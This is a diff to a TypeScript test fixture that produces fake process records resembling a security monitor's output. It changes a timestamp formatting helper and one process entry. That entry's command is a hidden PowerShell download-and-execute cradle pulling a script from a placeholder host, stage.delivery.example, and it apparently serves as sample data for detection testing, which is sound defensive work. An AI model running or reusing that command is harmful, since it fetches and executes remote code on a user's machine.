@@ -125,11 +125,14 @@ const SHAPES: readonly Shape[] = [
   ],
 ];
 
-const START = Date.UTC(2026, 10, 3, 9, 14, 7, 120);
+const START = ((9 * 60 + 14) * 60 + 7) * 1000 + 120;
 
-/** `YYYY-MM-DD HH:MM:SS,mmm`, so many milliseconds after the fixture's first process. */
+/** `YYYY-MM-DD HH:MM:SS,mmm`, so many milliseconds after the fixture's first process; good for half a day. */
 export function stamp(ms: number): string {
-  return new Date(START + ms).toISOString().replace('T', ' ').replace('.', ',').replace('Z', '');
+  const at = START + ms;
+  const two = (value: number) => String(Math.floor(value)).padStart(2, '0');
+  const clock = `${two(at / 3_600_000)}:${two((at / 60_000) % 60)}:${two((at / 1000) % 60)}`;
+  return `2026-11-03 ${clock},${String(at % 1000).padStart(3, '0')}`;
 }
 
 /** A call that looks like a monitor's; nothing in it is random. */
@@ -185,7 +188,7 @@ const PROCESSES: readonly Spec[] = [
     pid: 2740,
     parent: 2612,
     name: 'powershell.exe',
-    command: String.raw`powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://stage.delivery.example/a')"`,
+    command: `powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://stage.delivery.example/a')"`,
     ms: 2_106,
     share: 0.25,
   },
